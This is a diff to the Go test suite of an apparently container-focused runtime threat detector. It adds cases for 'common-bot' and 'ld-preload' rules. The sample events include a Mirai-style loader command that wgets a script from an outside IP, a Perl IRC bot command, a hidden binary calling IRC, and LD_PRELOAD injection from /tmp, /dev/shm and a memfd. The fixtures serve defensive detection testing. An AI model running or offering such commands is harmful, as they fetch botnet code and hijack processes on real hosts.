@@ -50,6 +50,16 @@ func replayCases() []replayCase {
 		}, "k8s-api-from-container", nil},
 		{"no k8s-api-from-container: API without token", []*api.Event{connectEv("/usr/bin/curl", "10.96.0.1", 443, 0, ctr)}, "", []string{"k8s-api-from-container"}},
 
+		{"common-bot: a program connects to IRC", []*api.Event{connectEv("/tmp/.x/kworker", "198.51.100.4", 6667, 0, ctr)}, "common-bot", nil},
+		{"common-bot: Perl IRC bot", []*api.Event{execEv("/usr/bin/perl", []string{"perl", "-e", "print $s \"NICK b0t\\r\\nJOIN #cmd\\r\\n\""}, ctr)}, "common-bot", nil},
+		{"common-bot: Mirai loader", []*api.Event{execEv(sh, []string{"sh", "-c", "cd /tmp || cd /var/run || cd /mnt; wget http://198.51.100.4/bins.sh"}, ctr)}, "common-bot", nil},
+		{"common-bot: tsunami", []*api.Event{execEv("/tmp/tsunami", []string{"tsunami"}, ctr)}, "common-bot", nil},
+		{"no common-bot: irssi on IRC, curl on 7001, IRC on loopback", []*api.Event{
+			connectEv("/usr/bin/irssi", "198.51.100.4", 6697, 0, ctr),
+			connectEv("/usr/bin/curl", "198.51.100.4", 7001, 0, ctr),
+			connectEv("/usr/bin/python3", "127.0.0.1", 6667, 0, ctr),
+			execEv(sh, []string{"sh", "-c", "cd /tmp && make"}, ctr),
+		}, "", []string{"common-bot"}},
 		{"cloud-metadata", []*api.Event{connectEv("/usr/bin/curl", "169.254.169.254", 80, 0, ctr)}, "cloud-metadata", nil},
 		{"no cloud-metadata on host", []*api.Event{connectEv("/usr/bin/cloud-init", "169.254.169.254", 80, 0)}, "", []string{"cloud-metadata"}},
 
@@ -71,6 +81,9 @@ func replayCases() []replayCase {
 		{"ld-preload: write", []*api.Event{openEv(sh, "/etc/ld.so.preload", true, ctr)}, "ld-preload", nil},
 		{"ld-preload: failed write by non-root", []*api.Event{openFailWrite(sh, "/etc/ld.so.preload", -13, ctr)}, "ld-preload", nil},
 		{"ld-preload: LD_PRELOAD from tmp", []*api.Event{execEv(sh, []string{"sh", "-c", "LD_PRELOAD=/tmp/x.so ls"}, ctr)}, "ld-preload", nil},
+		{"ld-preload: LD_PRELOAD from /dev/shm in the environment", []*api.Event{ldPreloadExec("/usr/lib/libjemalloc.so.2:/dev/shm/.x.so", ctr)}, "ld-preload", nil},
+		{"ld-preload: LD_PRELOAD from a memfd in the environment", []*api.Event{ldPreloadExec("/proc/self/fd/3", ctr)}, "ld-preload", nil},
+		{"no ld-preload: jemalloc preloaded from /usr/lib", []*api.Event{ldPreloadExec("/usr/lib/x86_64-linux-gnu/libjemalloc.so.2", ctr)}, "", []string{"ld-preload"}},
 		{"no ld-preload: loader read", []*api.Event{openLoader("/usr/bin/ls", "/etc/ld.so.preload")}, "", []string{"ld-preload"}},
 
 		{"miner-download", []*api.Event{execEv("/usr/bin/curl", []string{"curl", "-o", "/tmp/xmrig", "http://10.0.0.5/xmrig"}, ctr)}, "miner-download", nil},
@@ -274,5 +287,13 @@ func dnsEv(exe, name string, opts ...evOpt) *api.Event {
 func chmodEv(exe, path string, mode uint32, opts ...evOpt) *api.Event {
 	e := base(api.EventKind_EVENT_KIND_CHMOD, exe, []string{"chmod", "+x", path}, opts)
 	e.Detail = &api.Event_Chmod{Chmod: &api.Chmod{Path: path, Mode: mode}}
+	return e
+}
+
+// ldPreloadExec is an exec whose environment set LD_PRELOAD (not on its
+// command line).
+func ldPreloadExec(value string, opts ...evOpt) *api.Event {
+	e := execEv("/usr/bin/python3", []string{"python3", "app.py"}, opts...)
+	e.GetExec().LdPreload = value
 	return e
 }
